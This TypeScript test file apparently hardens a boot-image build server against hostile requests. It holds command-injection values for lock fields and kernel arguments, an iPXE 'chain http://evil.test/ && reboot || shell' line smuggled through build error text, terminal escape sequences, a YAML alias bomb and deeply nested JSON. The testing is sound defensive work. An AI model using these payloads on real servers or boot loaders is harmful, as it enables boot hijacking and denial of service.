// Hostile requests against the real server (fake builder): each case is a finding of the
// "Safe to expose" review that failed on commit 6ed9ae3. No answer here may be a 5xx.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { getSettings } from "@brokkr/composer";
import { createFakeBuilder } from "../lib/builds/fake-builder.ts";
import { readSse, startTestServer } from "./test-server.ts";

// "${" built at run time so no linter takes it for a template mistake.
const DB = "$" + "{";
const minimalYaml = readFileSync(join(getSettings().root, "examples/minimal.yaml"), "utf8");
const fake = createFakeBuilder();
let server: Awaited<ReturnType<typeof startTestServer>>;

before(async () => {
  server = await startTestServer({ builder: fake.builder });
});
after(async () => {
  await server.close();
});

async function call(path: string, init: RequestInit = {}): Promise<Response> {
  const res = await fetch(`${server.url}${path}`, init);
  assert.ok(res.status < 500, `${init.method ?? "GET"} ${path}: ${res.status}`);
  return res;
}

const post = (path: string, type: string, body: string) => call(path, { method: "POST", headers: { "content-type": type }, body });

async function expect4xx(res: Response, status: number, code: string): Promise<{ message: string; problems?: { path: string }[] }> {
  assert.equal(res.status, status);
  const { error } = (await res.json()) as { error: { code: string; message: string; problems?: { path: string }[] } };
  assert.equal(error.code, code);
  assert.doesNotMatch(JSON.stringify(error), /\n\s+at /, "no stack trace");
  return error;
}

async function schematic(name: string, extra = ""): Promise<string> {
  const res = await post("/api/schematics", "application/yaml", `${minimalYaml.replace("name: minimal", `name: ${name}`)}${extra}`);
  assert.equal(res.status, 201, await res.clone().text());
  return ((await res.json()) as { id: string }).id;
}

async function build(id: string, body?: unknown): Promise<string> {
  const init: RequestInit = { method: "POST" };
  if (body !== undefined) Object.assign(init, { headers: { "content-type": "application/json" }, body: JSON.stringify(body) });
  const res = await call(`/api/schematics/${id}/builds`, init);
  assert.equal(res.status, 202, await res.clone().text());
  const { buildId } = (await res.json()) as { buildId: string };
  await (await call(`/api/builds/${buildId}/log`)).text();
  return buildId;
}

const entry = { package: "systemd", version: "257.9-1~deb13u1", arch: "amd64", sha256: "a".repeat(64) };

test("a build from a client's lock never becomes what /images/ and /pxe/ serve", async () => {
  const sid = await schematic("lock-swap");
  const own = await build(sid);
  const locked = await build(sid, { lock: [entry] });
  assert.notEqual(own, locked);
  const pxe = await (await call(`/pxe/${sid}/boot.ipxe`, { headers: { host: "h" } })).text();
  assert.match(pxe, new RegExp(`/api/builds/${own}/vmlinuz`));
  assert.doesNotMatch(pxe, new RegExp(locked));
  const res = await call(`/images/${sid}/disk.img`, { method: "HEAD" });
  assert.equal(res.status, 200);
  const viaOwn = await call(`/api/builds/${own}/disk.img`, { method: "HEAD" });
  assert.equal(res.headers.get("etag"), viaOwn.headers.get("etag"));
});

test("a lock that is not Debian's shape is a 400 naming the field (a NUL was a 500)", async () => {
  const sid = await schematic("lock-nul");
  for (const bad of [{ ...entry, package: "sys\u0000temd" }, { ...entry, version: "1 && reboot" }, { ...entry, arch: "../x" }]) {
    const res = await post(`/api/schematics/${sid}/builds`, "application/json", JSON.stringify({ lock: [bad] }));
    const err = await expect4xx(res, 400, "service.bad-request");
    assert.match(err.message, /first bad field: lock\[0\]\./);
  }
});

test("deep JSON nesting is a 400, for specs and for locks", async () => {
  const deep = `${"[".repeat(50_000)}${"]".repeat(50_000)}`;
  await expect4xx(await post("/api/schematics", "application/json", `{"name":"a","arch":"x86_64","ports":${deep}}`), 400, "spec.parse");
  const sid = await schematic("deep-lock");
  await expect4xx(await post(`/api/schematics/${sid}/builds`, "application/json", `{"lock":${deep}}`), 400, "spec.parse");
});

test("a YAML alias bomb is a 400 before it expands", async () => {
  const lines = ['a: &a ["x","x","x","x","x","x","x","x","x"]'];
  for (let i = 1; i < 1500; i++) lines.push(`a${i}: &a${i} [${Array(99).fill(`*a${i > 1 ? i - 1 : ""}`).join(",")}]`);
  const err = await expect4xx(await post("/api/schematics", "application/yaml", lines.join("\n")), 400, "spec.parse");
  assert.match(err.message, /anchors \(&name\) are not allowed/);
});

test("kernel arguments that iPXE or GRUB would run are refused with their path", async () => {
  for (const arg of ["quiet;reboot", "a&&chain", `x${DB}net0/ip}`, "#", "a\tb", 'x="1 2"']) {
    const res = await post("/api/schematics", "application/json", JSON.stringify({ name: "inj", arch: "x86_64", boot: { cmdline: ["quiet", arg] } }));
    const err = await expect4xx(res, 400, "spec.invalid");
    assert.ok(err.problems?.some((p) => p.path === "boot.cmdline[1]"), JSON.stringify(err));
  }
});

test("a failed build's error text never reaches the iPXE script", async () => {
  const sid = await schematic("pxe-inject");
  fake.failNext(new Error("x\n\tchain http://evil.test/ && reboot || shell ; #" + DB + "x}"));
  await build(sid);
  const pxe = await (await call(`/pxe/${sid}/boot.ipxe`, { headers: { host: "h" } })).text();
  assert.doesNotMatch(pxe, /evil|reboot|shell/);
  for (const line of pxe.split("\n").filter((l) => l.startsWith("echo "))) assert.doesNotMatch(line, /[&|;#$\t]/);
});

test("log lines reach the browser without terminal escapes", async () => {
  const sid = await schematic("log-escape");
  fake.failNext(new Error("\x1b]8;;http://evil.test/\x07click\x1b]8;;\x07 \x1b[2J\u0000"));
  const id = await build(sid);
  const { lines } = await readSse(await call(`/api/builds/${id}/log`));
  assert.ok(lines.some((l) => l.includes("click")));
  for (const l of lines) assert.doesNotMatch(l, /[\x00-\x08\x0b-\x1f\x7f]/);
});
